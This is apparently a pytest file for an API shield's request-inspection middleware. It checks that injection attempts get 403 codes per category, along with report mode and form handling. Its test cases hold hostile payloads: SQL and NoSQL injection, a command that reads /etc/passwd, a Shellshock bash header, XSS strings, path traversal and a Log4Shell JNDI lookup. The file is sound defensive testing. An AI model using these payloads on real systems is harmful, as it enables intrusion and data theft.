"""Stage 11 as a client sees it: 403 with a code per category, report mode, bodies replayed."""

from __future__ import annotations

import copy
import json
import logging
from collections.abc import AsyncIterator, Callable
from typing import Any

import httpx
import pytest

from apishield import protect
from apishield.errors import PolicyError
from apishield.inspect import InspectionSettings
from apishield.pipeline.inspection import InspectionMiddleware, build_inspection_stage
from apishield.policy.load import coerce_policy
from tests.pipeline.conftest import BASE_POLICY, echo_app

POLICY: dict[str, Any] = copy.deepcopy(BASE_POLICY)
POLICY["routes"] += [
    {
        "path": "/v2/forms",
        "methods": ["POST"],
        "allow": "public",
        "content_types": ["application/x-www-form-urlencoded"],
        "body_limit": "1KiB",
    },
    {"path": "/v2/snippets", "methods": ["POST"], "allow": "public"},
]
SNIPPETS = {"route": "/v2/snippets", "field": "body.snippet", "detectors": ["sqli"]}

ClientFactory = Callable[..., httpx.AsyncClient]


@pytest.fixture
async def client() -> AsyncIterator[ClientFactory]:
    clients: list[httpx.AsyncClient] = []

    def factory(policy: dict[str, Any] | None = None, **settings: Any) -> httpx.AsyncClient:
        inspection = {"exclude": [SNIPPETS], **settings}
        InspectionSettings.model_validate(inspection)
        app = protect(echo_app, {**(policy or POLICY), "inspection": inspection})
        c = httpx.AsyncClient(
            transport=httpx.ASGITransport(app=app, client=("127.0.0.1", 50000)),
            base_url="https://api.test",
        )
        clients.append(c)
        return c

    yield factory
    for c in clients:
        await c.aclose()


REFUSED = [
    pytest.param("GET", "/v2/items?id=1%20or%201%3D1", {}, None, "sqli_detected", id="sqli-query"),
    pytest.param(
        "GET",
        "/v2/items/1",
        {"x-trace": "' UNION SELECT 1--"},
        None,
        "sqli_detected",
        id="sqli-custom-header",
    ),
    pytest.param(
        "POST", "/v2/items", {}, {"user": {"$ne": None}}, "nosqli_detected", id="nosqli-body"
    ),
    pytest.param(
        "GET",
        "/v2/items?host=127.0.0.1%3Bcat%20/etc/passwd",
        {},
        None,
        "cmdi_detected",
        id="cmdi-query",
    ),
    pytest.param(
        "GET",
        "/v2/items",
        {"user-agent": "() { :;}; /bin/bash -c id"},
        None,
        "cmdi_detected",
        id="cmdi-user-agent",
    ),
    pytest.param(
        "POST",
        "/v2/items",
        {},
        {"bio": "<img src=x onerror=alert(1)>"},
        "xss_detected",
        id="xss-body",
    ),
    pytest.param(
        "GET",
        "/v2/items",
        {"referer": "javascript:alert(1)"},
        None,
        "xss_detected",
        id="xss-referer",
    ),
    pytest.param(
        "GET",
        "/v2/items?file=..%252f..%252fetc%252fpasswd",
        {},
        None,
        "path_traversal_detected",
        id="traversal-double-encoded",
    ),
    pytest.param(
        "GET",
        "/v2/items",
        {"x-forwarded-for": "${jndi:ldap://x.example/a}"},
        None,
        "ssti_detected",
        id="ssti-xff",
    ),
    pytest.param(
        "GET", "/v2/items/%7B%7B7*7%7D%7D", {}, None, "ssti_detected", id="ssti-path-param"
    ),
    pytest.param(
        "GET", "/v2/items", {"cookie": "pref=%3Cscript%3E"}, None, "xss_detected", id="xss-cookie"
    ),
]


@pytest.mark.parametrize(("method", "url", "headers", "body", "code"), REFUSED)
async def test_injections_are_refused(
    client: ClientFactory,
    method: str,
    url: str,
    headers: dict[str, str],
    body: object,
    code: str,
) -> None:
    c = client()
    response = await c.request(method, url, headers=headers, json=body)
    assert response.status_code == 403
    problem = response.json()
    assert problem["code"] == code
    assert response.headers["content-type"] == "application/problem+json"


async def test_the_refusal_never_echoes_the_value(client: ClientFactory) -> None:
    c = client()
    response = await c.get("/v2/items", params={"q": "<script>alert('marker-7f3a')</script>"})
    assert response.status_code == 403
    assert "marker-7f3a" not in response.text
    assert "script" not in response.text.replace("xss_detected", "")


async def test_development_hint_names_the_field_only(client: ClientFactory) -> None:
    policy = {**POLICY, "mode": "development"}
    c = client(policy)
    response = await c.get("/v2/items", params={"search": "' or 'a'='a"})
    problem = response.json()
    assert "query.search" in problem["hint"]
    assert "'a'='a" not in response.text
    assert problem["guide"] == "docs/refusals/sqli_detected.md"


async def test_clean_requests_pass_untouched(client: ClientFactory) -> None:
    c = client()
    body = json.dumps({"name": "O'Brien", "note": "Please select a size -- or drop me a line"})
    response = await c.post(
        "/v2/items?q=men%27s+shoes&sort=-price",
        content=body.encode(),
        headers={
            "content-type": "application/json",
            "user-agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
            "x-note": "AT&T",
        },
    )
    assert response.status_code == 200
    assert response.json()["body_length"] == len(body.encode())


async def test_excluded_field_passes_and_others_are_still_inspected(client: ClientFactory) -> None:
    c = client()
    sql = {"snippet": "SELECT * FROM t WHERE a = 'x' OR 1=1; --", "title": "demo"}
    assert (await c.post("/v2/snippets", json=sql)).status_code == 200
    response = await c.post("/v2/snippets", json={**sql, "title": "' or 1=1--"})
    assert response.json()["code"] == "sqli_detected"


async def test_report_mode_lets_the_request_through_and_records_the_code(
    client: ClientFactory, caplog: pytest.LogCaptureFixture
) -> None:
    c = client(mode="report")
    with caplog.at_level(logging.INFO):
        response = await c.get("/v2/items", params={"q": "<script>x</script>", "f": ";id"})
    assert response.status_code == 200
    events = [json.loads(r.getMessage()) for r in caplog.records if r.name == "apishield.audit"]
    assert events[-1]["reported"] == ["xss_detected", "cmdi_detected"]
    logged = [r.getMessage() for r in caplog.records if r.name == "apishield.inspect"]
    assert any("reported" in line and "query.q" in line for line in logged)
    assert not any("script" in line for line in logged)


async def test_form_bodies_are_inspected_and_replayed(client: ClientFactory) -> None:
    c = client()
    form = {"headers": {"content-type": "application/x-www-form-urlencoded"}}
    ok = await c.post("/v2/forms", content=b"name=O%27Brien&city=Z%C3%BCrich", **form)
    assert ok.status_code == 200
    assert ok.json()["body_length"] == len(b"name=O%27Brien&city=Z%C3%BCrich")
    bad = await c.post("/v2/forms", content=b"name=x&bio=%3Csvg+onload%3Dalert(1)%3E", **form)
    assert bad.json()["code"] == "xss_detected"


async def test_oversized_form_body_is_still_refused_by_the_content_stage(
    client: ClientFactory,
) -> None:
    c = client()
    response = await c.post(
        "/v2/forms",
        content=b"a=" + b"x" * 2000,
        headers={"content-type": "application/x-www-form-urlencoded"},
    )
    assert response.status_code == 413


async def test_unparsed_json_is_inspected_as_text(client: ClientFactory) -> None:
    policy = {**POLICY, "content": {"mode": "report"}}
    c = client(policy)
    response = await c.post(
        "/v2/items",
        content=b'{"a": "../../../etc/passwd", "a": 1}',  # a duplicate key: not parsed
        headers={"content-type": "application/json"},
    )
    assert response.json()["code"] == "path_traversal_detected"


def test_build_skips_the_stage_when_disabled() -> None:
    policy = coerce_policy(POLICY)
    assert build_inspection_stage(echo_app, InspectionSettings(enabled=False), policy) is echo_app
    stage = build_inspection_stage(echo_app, InspectionSettings(), policy)
    assert isinstance(stage, InspectionMiddleware)


def test_build_refuses_an_exclusion_for_an_unknown_route() -> None:
    settings = InspectionSettings.model_validate({"exclude": [{"route": "/v2/snipets"}]})
    with pytest.raises(PolicyError, match=r"inspection\.exclude\[0\]\.route"):
        build_inspection_stage(echo_app, settings, coerce_policy(POLICY))
